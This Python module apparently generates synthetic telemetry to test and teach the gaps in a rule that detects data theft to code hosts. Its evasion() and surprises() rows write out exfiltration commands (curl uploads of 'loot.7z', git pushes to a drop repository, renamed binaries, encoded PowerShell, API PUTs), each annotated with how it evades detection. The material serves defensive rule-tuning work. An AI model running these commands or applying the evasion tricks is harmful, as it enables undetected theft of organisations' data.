"""What the rule does not see, and what it sees for a wrong reason.

`evasion` holds attacks that the rule as shipped lets pass: a row for each gap (some gaps need several). `surprises`
holds rows that alert although nothing left, or that alert by luck. Each label says which condition decided.
"""

from events import API, PUSH, ROOT, UPLOAD, User, Device, network, process
from world import DROP, OWN, TOKEN, Program

EXPLORER = "C:\\Windows\\Explorer.EXE"
CMD = '"C:\\Windows\\System32\\cmd.exe"'
PSX = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
BASH = '"C:\\Program Files\\Git\\usr\\bin\\bash.exe" --login -i'
PY = "C:\\Users\\d.moreau\\AppData\\Local\\Programs\\Python\\Python312"

PYTHON3 = Program("python3.exe", PY, "Python Software Foundation", "Python", "python.exe")
RENAMED_GIT = Program("gsync.exe", "C:\\Users\\Public\\Libraries", "The Git Development Community", "Git", "git.exe")
RENAMED_CURL = Program("wupdhlp.exe", "C:\\ProgramData\\wupd", "curl, https://curl.se/", "The curl executable", "curl.exe")
PYTHON = Program("python", "/usr/bin", linux=True)
DENO = Program("deno.exe", "C:\\Users\\d.moreau\\.deno\\bin", "Deno Land Inc.", "Deno", "deno.exe")
HTTPIE = Program("http.exe", PY + "\\Scripts")
GLAB = Program("glab.exe", "C:\\Program Files\\glab")
DESKTOP = Program("GitHubDesktop.exe", "C:\\Users\\d.moreau\\AppData\\Local\\GitHubDesktop\\app-3.5.2", "GitHub, Inc.", "GitHub Desktop", "GitHubDesktop.exe")

PC, WHO = Device("th-lt-0440"), User("d.moreau")
LNX = Device("th-lnx-app-05", linux=True)


def evasion():
    day = "2026-10-20T"
    api = f"https://api.github.com/repos/{DROP}/n"

    def sent(at, name, command, url, count, why, parent="cmd.exe", received=3_120, device=PC, who=WHO, **more):
        return network(day + at, device, who, name, command, parent, url, count, received, malicious=True, why=why, **more)

    def ran(at, name, command, why, parent="cmd.exe", parent_command=CMD, device=PC, who=WHO, grandparent="explorer.exe"):
        return process(day + at, device, who, name, command, parent, parent_command, grandparent, malicious=True, why=why)

    curl = "curl.exe -sS -T {} https://{}"
    rows = [
        # Signal 1: the process
        sent("09:00:12.104417", PYTHON3, f'"{PY}\\python3.exe" up.py', "api.github.com", 4_182_206, "python3.exe does not have the term python: the 3 belongs to the term."),
        sent("09:04:40.660120", "python3.11", "/usr/bin/python3.11 /tmp/.u/up.py", "api.github.com", 61_044_118, "python3.11 cuts into python3 and 11; python is not among them.", "bash", device=LNX, who=ROOT),
        sent("09:08:03.331208", "gh.exe", f"gh release upload v1 D:\\loot.7z --repo {DROP}/n", "uploads.github.com", 210_448_003, "GitHub's own command line is not in the list of tools."),
        sent("09:10:51.007754", GLAB, f"glab release upload v1 D:\\loot.7z -R {DROP}/n", "gitlab.com", 96_220_410, "nor is GitLab's."),
        sent("09:13:15.900318", "java.exe", f"java.exe -jar jgit.jar push https://github.com/{DROP}/n.git", "github.com", 33_018_220, "JGit: git without git.exe, the process is java.exe."),
        sent("09:15:59.118006", DENO, "deno.exe run -A up.ts", "api.github.com", 12_400_881, "Another runtime than node."),
        sent("09:18:20.441970", HTTPIE, f"http.exe PUT {api}/git/blobs @blob.json", "api.github.com", 5_118_002, "HTTPie is Python inside; its process is http.exe."),
        sent("09:21:37.030116", RENAMED_CURL, "wupdhlp.exe -K c.cfg", "api.github.com", 8_831_447, "curl under another name. ProcessVersionInfoOriginalFileName would still say curl.exe."),
        sent("09:24:44.822105", "TortoiseGitProc.exe", "TortoiseGitProc.exe /command:push /path:D:\\n", "github.com", 18_200_334, "A graphical client: TortoiseGitProc is one term, git is inside it."),
        sent("09:27:10.550817", DESKTOP, "GitHubDesktop.exe", "github.com", 22_871_009, "GitHub Desktop: one term again."),
        sent("09:30:02.118840", "msedge.exe", "msedge.exe --profile-directory=Default", "github.com", 24_661_300, "Files dropped on the web page. Browsers are not among the tools.", "explorer.exe"),
        sent("09:33:48.204117", "wslhost.exe", "wslhost.exe", "github.com", 40_120_662, "git inside WSL: Windows sees the relay only.", "svchost.exe"),
        # Signal 1: the size
        sent("09:40:00.300114", "curl.exe", curl.format("part.bin", "gitlab.com/api/v4/projects/771/packages/generic/p/1/part.bin"), "gitlab.com", 524_288, "Exactly 524288 bytes is not greater than the threshold."),
        sent("09:42:30.771405", "curl.exe", "curl.exe -sS -K up.cfg", "api.github.com", None, "The sensor alone saw it: without a byte count the comparison is null.", received=None),
        # Signal 1: the destination
        sent("10:10:09.118331", "curl.exe", curl.format("loot.7z", "notgithub.com/u/1"), "notgithub.com", 6_220_118, "notgithub is one term, so notgithub.com does not have github.com. No code host, and a good imitation."),
        sent("10:12:44.903002", "curl.exe", curl.format("loot.7z", "github.community/u/1"), "github.community", 6_220_118, "community is one term, so github.com does not end there."),
        sent("10:15:20.661108", "git-remote-https.exe", "git remote-https https://git.tarnholm-partners.example/n.git", "git.tarnholm-partners.example", 51_200_774, "A GitLab of one's own has a name that no list holds.", "git.exe"),
        sent("10:17:31.450227", "git-remote-https.exe", "git remote-https https://qz-drop-example.ghe.com/a/n.git", "qz-drop-example.ghe.com", 14_018_552, "GitHub Enterprise Cloud has a domain of its own.", "git.exe"),
        sent("10:19:58.070413", "git-remote-https.exe", "git remote-https https://qz-drop-example.visualstudio.com/n/_git/n", "qz-drop-example.visualstudio.com", 9_116_002, "Azure DevOps under its older name.", "git.exe"),
        sent("10:22:13.300998", "git-remote-https.exe", "git remote-https https://git.sr.ht/~qz-drop-example/n", "git.sr.ht", 7_200_118, "One of many code hosts that the list does not know.", "git.exe"),
        sent("10:25:46.118200", "git-remote-https.exe", "git remote-https https://192.0.2.61/n.git", "", 30_884_120, "Connected by address: RemoteUrl is empty, RemoteIP alone says where to.", "git.exe", RemoteIP="192.0.2.61"),
        sent("10:28:02.771934", "ssh.exe", f"ssh.exe git@github.com \"git-receive-pack '{DROP}/n.git'\"", "github.com", 28_440_017, "A push over SSH: the connection belongs to ssh.exe.", "git.exe", port=22),
        sent("10:31:19.338105", "git-remote-https.exe", f"git remote-https https://github.com/{DROP}/n.git", "proxy.corp.tarnholm.example:8080", 17_300_226, "Through the company's proxy: the sensor sees the proxy's name.", "git.exe", port=8080),
        # Signal 2: git push
        ran("11:00:10.550118", "git.exe", "git.exe push origin main", "A named remote: the host stands in .git/config, not on the command line."),
        ran("11:02:33.117004", "git.exe", "git.exe push", "No remote at all: the branch remembers it."),
        ran("11:04:01.660228", "git.exe", f"git.exe remote add backup https://github.com/{DROP}/n.git", "The host is here and push is in the next row: no row has both."),
        ran("11:04:09.002117", "git.exe", "git.exe push -u backup --all", "The push that belongs to the row before."),
        ran("11:07:45.318820", "git.exe", f"git.exe push gh:{DROP}/n.git main", "url.insteadOf in the settings turns gh: into https://github.com/."),
        ran("11:10:20.990014", "git.exe", "git.exe push work:n.git main", "A Host alias in ~/.ssh/config: the name says nothing."),
        ran("11:12:59.118227", "git.exe", f"git.exe send-pack --all https://github.com/{DROP}/n.git", "The plumbing below push has another name."),
        ran("11:15:31.440018", "git.exe", "git.exe p", "An alias for push in ~/.gitconfig."),
        ran("11:18:04.771330", RENAMED_GIT, f"gsync.exe push https://github.com/{DROP}/n.git main", "git under another name: FileName is compared as a whole."),
        ran("11:20:40.203119", "git-remote-https.exe", f"git remote-https https://github.com/{DROP}/n.git https://github.com/{DROP}/n.git", "git's helper: FileName is not git.exe and the word push is missing.", "git.exe", "git.exe push"),
        ran("11:23:12.884401", "docker.exe", f"docker run --rm -v D:\\n:/git alpine/git push https://github.com/{DROP}/n.git", "git runs in a container; the process on this machine is docker.exe."),
        ran("11:26:55.116820", "java.exe", f"java.exe -jar jgit.jar push https://github.com/{DROP}/n.git", "JGit again, by its process row."),
        ran("11:29:20.330076", "git.exe", "git.exe push https://192.0.2.61/n.git main", "An address instead of a name."),
        ran("11:31:47.558103", "git.exe", "git.exe push https://git.tarnholm-partners.example/n.git main", "A server of one's own."),
        ran("11:34:08.219447", "git", "git push ssh://git@ssh.code.example/qz/n.git main", "A code host that the list does not know, from Linux.", "bash", "-bash", LNX, ROOT, "sshd"),
        # Signal 3: the API
        ran("12:00:31.118404", "python.exe", f'python.exe -c "import http.client as h,os;c=h.HTTPSConnection(\'api.github.com\');c.request(\'POST\',\'/repos/{DROP}/n/git/blobs\',open(\'b.json\'))"', "Another library: neither method= nor requests. appears."),
        ran("12:03:10.660711", PYTHON, f"python -c 'import urllib.request as u;u.urlopen(u.Request(\"{api}/git/blobs\",open(\"b.json\",\"rb\"),method=\"PUT\"))'", "method=\"PUT\" in double quotes is not in the list, and the blobs API has no contents in its path.", "bash", "-bash", LNX, ROOT, "sshd"),
        ran("12:05:44.302018", "python.exe", f"python.exe -c \"import requests as r;r.request('POST','{api}/git/blobs',data=open('b.json'))\"", "requests.request and an alias: requests.post is not there."),
        ran("12:08:20.118774", PYTHON3, f"python3.exe -c \"import requests;requests.put('{api}/contents/a',data=open('b'))\"", "All of it in plain sight, but FileName is python3.exe."),
        ran("12:10:02.007199", "curl.exe", f"curl.exe -XPOST -d @b.json {api}/git/blobs", "-XPOST without the space is another text than -X POST."),
        ran("12:12:37.441380", "curl.exe", f"curl.exe --request POST -d @b.json {api}/git/blobs", "The long option."),
        ran("12:14:50.903117", "curl.exe", f"curl.exe -d @b.json {api}/git/blobs", "-d alone already means POST."),
        ran("12:17:12.660450", "curl.exe", "curl.exe -sK C:\\ProgramData\\c.cfg", "Address, method and token stand in a file."),
        ran("12:19:48.118031", "curl.exe", "curl.exe -X POST -d @b.json https://gitlab.com/api/v4/projects/771/repository/commits", "GitLab's real API lives at gitlab.com/api, not at api.gitlab.com."),
        ran("12:22:31.330942", "curl.exe", f"curl.exe --data-binary @loot.7z https://uploads.github.com/repos/{DROP}/n/releases/1/assets?name=l", "Release assets go to uploads.github.com."),
        ran("12:25:06.771208", "powershell.exe", f'"{PSX}" -nop -c "irm -Method Post -Uri {api}/git/blobs -InFile b.json"', "irm is Invoke-RestMethod's alias."),
        ran("12:27:40.204413", "powershell.exe", f"\"{PSX}\" -nop -c \"(New-Object Net.WebClient).UploadFile('{api}/git/blobs','b.json')\"", "The class below the cmdlets."),
        ran("12:30:15.550016", "powershell.exe", f'"{PSX}" -nop -w hidden -EncodedCommand SQBuAHYAbwBrAGUALQBSAGUAcwB0AE0AZQB0AGgAbwBkACAALQBGAGEAawBlAA==', "Base64: no word of it can be read."),
        ran("12:32:58.118660", "python.exe", "python.exe C:\\Users\\d.moreau\\up.py D:\\loot.7z", "Host and method stand in the script."),
        ran("12:35:22.900741", RENAMED_CURL, f"wupdhlp.exe -X POST -d @b.json {api}/contents/b", "curl under another name, with everything else in sight."),
        ran("12:38:11.006218", "gh.exe", f"gh.exe api -X PUT {api}/contents/b --input b.json", "GitHub's own command line again."),
        ran("12:40:47.331905", "perl", f"perl -MLWP::UserAgent -e 'LWP::UserAgent->new->put(qq({api}/contents/b))'", "Perl is a tool for signal 1 and none for signal 3.", "bash", "-bash", LNX, ROOT, "sshd"),
        # The look-back
        network("2026-10-19T10:30:00.118204", PC, WHO, "curl.exe", "curl.exe -T a.7z https://github.com/", "cmd.exe", "github.com", 9_000_114, 2_001,
                malicious=True, why="A perfect match, older than the look-back by three and a half hours."),
        network("2026-10-19T14:00:00.000000", PC, WHO, "curl.exe", "curl.exe -T b.7z https://github.com/", "cmd.exe", "github.com", 9_000_228, 2_001,
                malicious=True, why="A perfect match, exactly 24 hours older than the newest row: it is not later than that."),
    ]  # fmt: skip
    for i in range(12):
        size = (498_113, 511_020, 523_977, 480_560)[i % 4]
        rows.append(
            sent(f"13:{4 * i:02}:20.11{i:02}18", "curl.exe", curl.format(f"p{i:02}.bin", f"gitlab.com/api/v4/projects/771/packages/generic/p/1/p{i:02}.bin"), "gitlab.com", size,
                 "One of twelve pieces, each under the threshold; together they are 5.8 MB."))  # fmt: skip
    rows.append(
        network(day + "14:00:00.000000", PC, WHO, "msedge.exe", "msedge.exe --profile-directory=Default", "explorer.exe", "learn.microsoft.com", 12_004, 220_118,
                why="Ordinary browsing. The newest row: the look-back counts from here."))  # fmt: skip
    return rows


def surprises():
    day = "2026-10-21T"
    api = f"https://api.github.com/repos/{OWN}/firmware"

    def sent(at, name, command, url, count, why, signals, malicious=False, received=3_120, parent="cmd.exe"):
        return network(day + at, PC, WHO, name, command, parent, url, count, received, malicious=malicious, why=why, signals=signals)

    def ran(at, name, command, why, signals, malicious=False):
        return process(day + at, PC, WHO, name, command, "bash.exe", BASH, "mintty.exe", malicious=malicious, why=why, signals=signals)

    return [
        sent("09:00:20.118204", "curl.exe", "curl.exe -T loot.7z https://github.com.evil.example/u", "github.com.evil.example", 7_220_118, "github.com.evil.example has github.com: the dot after it ends the term. A catch, but no code host.", [UPLOAD], True),
        sent("09:03:11.660031", "curl.exe", "curl.exe -T p.bin https://gitlab.com/api/v4/projects/771/packages/generic/p/1/p.bin", "gitlab.com", 524_289, "One byte over the threshold.", [UPLOAD], True),
        sent("09:05:40.301177", "git-remote-https.exe", f"git remote-https https://github.com/{OWN}/firmware.git", "github.com", 1_220_774, "git-remote-https.exe has the term git: hyphens separate. Ordinary push.", [UPLOAD], parent="git.exe"),
        sent("09:08:09.771420", "powershell_ise.exe", '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe"', "api.github.com", 803_118, "powershell_ise.exe has powershell: the underscore separates. A module is published.", [UPLOAD], parent="explorer.exe"),
        sent("09:10:52.004118", "git-remote-https.exe", f"git remote-https https://github.com/{OWN}/big.git", "github.com", 88_120, "A clone: 2 GB received, little sent. Not an upload, and no alert.", [], received=2_104_882_113, parent="git.exe"),
        ran("10:00:14.330209", "git.exe", f"git.exe config --get-urlmatch remote.push_default https://github.com/{OWN}", "A look at the settings: push_default has push, the underscore separates.", [PUSH]),
        ran("10:02:41.118650", "git.exe", f"git.exe -c push.default=current fetch https://github.com/{OWN}/firmware.git", "A fetch: push stands in an option.", [PUSH]),
        ran("10:05:03.907714", "git.exe", "git.exe clone https://github.com/mobile-example/push-notifications.git", "A clone of a repository with push in its name.", [PUSH]),
        ran("10:07:30.550021", "git.exe", f"git.exe push --dry-run https://github.com/{OWN}/firmware.git main", "A trial run sends nothing.", [PUSH]),
        ran("10:09:58.204471", "git.exe", f"git.exe clone https://github.com/{OWN}/pushgateway.git", "pushgateway is one term, push is not in it: no alert.", []),
        ran("10:12:16.660890", "git.exe", f"GIT.EXE PUSH HTTPS://GITHUB.COM/{DROP.upper()}/N.GIT", "Upper case changes nothing: has and =~ ignore case.", [PUSH], True),
        ran("10:14:47.118033", "git.exe", f"git.exe push git@github.com:{DROP}/n.git main", "Over SSH, with the host on the command line: caught. Signal 1 would have missed it.", [PUSH], True),
        ran("10:17:20.330115", "git.exe", f"git.exe -c http.sslVerify=false -C D:\\n push https://github.com/{DROP}/n.git", "Options between git and push do not matter.", [PUSH], True),
        ran("11:00:33.771602", "python.exe", f"python.exe -c \"import requests;print(requests.get('{api}/contents/README.md').text)\"", "A read: contents is in the path of every file, read or written.", [API]),
        ran("11:03:05.002984", "powershell.exe", f"\"{PSX}\" -c \"Invoke-WebRequest https://api.github.com/repos/PowerShell/PowerShell/releases/latest -OutFile r.json\"", "A download: Invoke-WebRequest reads as well as writes.", [API]),
        ran("11:05:29.118447", "curl.exe", "curl.exe -s -X POST -d @query.json https://api.github.com/graphql", "A GraphQL question is a POST, and only asks.", [API]),
        ran("11:07:52.660318", "node.exe", "node.exe list.js https://api.github.com/users/d-moreau-example/gists", "Lists gists.", [API]),
        ran("11:10:40.309772", "curl.exe", f"curl.exe -s {api}/releases", "Reads the list of releases: no word for writing, no alert.", []),
        process(day + "11:13:02.118120", LNX, ROOT, PYTHON, f"python -c 'import urllib.request as u;u.urlopen(u.Request(\"https://api.github.com/repos/{DROP}/n/contents/e\",open(\"e\",\"rb\"),method=\"PUT\"))'", "bash", "-bash", "sshd",
                malicious=True, why="method=\"PUT\" is not in the list; contents catches it all the same.", signals=[API]),
        ran("11:15:37.904416", "curl.exe", f"curl.exe -s -X PUTTER {api}/topics", "-X PUTTER does not have -X PUT: the term goes on. No alert.", []),
        ran("11:18:11.440207", "curl.exe", f'curl.exe -s -X  POST -H "Authorization: token {TOKEN}" -d @n.json https://api.github.com/repos/{DROP}/n/issues', "Two spaces after -X: not the text of the list. Missed, and what left is an issue's text.", [], True),
    ]  # fmt: skip


EVASION = (
    "evasion", "Ways past the rule",
    "Every row but the newest is theft, and none alerts. For each, find the one condition that let it pass and the smallest edit that would not.", evasion,
)  # fmt: skip
SURPRISES = (
    "surprises", "Right and wrong for odd reasons",
    "push_default, a clone of push-notifications, a GraphQL question: rows that alert though nothing left, and catches that are luck. Read in the story of each which literal matched where.", surprises,
)  # fmt: skip
